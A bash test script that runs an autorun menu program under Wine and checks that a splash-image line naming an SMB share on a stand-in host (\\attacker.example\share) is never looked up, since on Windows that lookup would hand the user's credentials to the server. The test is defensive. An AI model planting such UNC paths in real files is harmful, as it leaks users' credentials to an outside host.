#!/usr/bin/env bash
# The Windows menu asks no other machine for a file: a medium whose splash line names a share
# (\\attacker.example\share\splash.png) starts under Wine in a private Xvfb, and Wine's file trace
# shows the menu file looked up but no lookup of the share, which on Windows would open an SMB
# session and hand the server the user's credentials.
#   tests/unc_splash_wine_test.sh path/to/tolvar-autorun.exe
set -euo pipefail

binary=$(realpath "$1")
work=$(mktemp -d "${TMPDIR:-/tmp}/tolvar-unc-splash.XXXXXX")
medium=$work/medium
xvfb_pid=""
menu_pid=""
cleanup() {
  [ -n "$menu_pid" ] && kill "$menu_pid" 2>/dev/null || true
  [ -n "$xvfb_pid" ] && kill "$xvfb_pid" 2>/dev/null || true
  rm -rf "$work"
}
trap cleanup EXIT
fail() {
  echo "FAIL: $*" >&2
  exit 1
}

title="Share splash $$"
mkdir -p "$medium/menu"
cp "$binary" "$medium/tolvar-autorun.exe"
printf '%s\r\n' "$title" '\\attacker.example\share\splash.png' 1 Leave '$exit$' \
  >"$medium/menu/config.mnu"

mkfifo "$work/display"
Xvfb -displayfd 3 -nolisten tcp -noreset -screen 0 1024x768x24 3>"$work/display" 2>"$work/xvfb.log" &
xvfb_pid=$!
number=""
read -r -t 15 number <"$work/display" || true
[ -n "$number" ] || fail "Xvfb did not start: $(cat "$work/xvfb.log")"
export DISPLAY=":$number"

# The trace goes to Wine's standard error. The window shows once the menu file, splash line and
# all, has been read: by then the share would have been looked up.
(cd "$medium" && WINEDEBUG=+file exec wine ./tolvar-autorun.exe) >/dev/null 2>"$work/trace" &
menu_pid=$!
window=$(timeout 60 xdotool search --sync --onlyvisible --name "^$title\$" 2>/dev/null |
         head -n1) || true
[ -n "$window" ] || fail "no window titled \"$title\" appeared: $(tail -n 5 "$work/trace")"
kill "$menu_pid" 2>/dev/null || true
wait "$menu_pid" 2>/dev/null || true
menu_pid=""

# The trace works: it shows the menu file's lookup, so a missing lookup of the share means
# something.
grep -qi 'config\.mnu' "$work/trace" || fail "Wine's file trace shows no lookup of the menu file"
if grep -i 'attacker\.example' "$work/trace" >"$work/share" ; then
  head -n 5 "$work/share" >&2
  fail "the share was looked up"
fi
echo "PASS: the splash's share was never looked up"
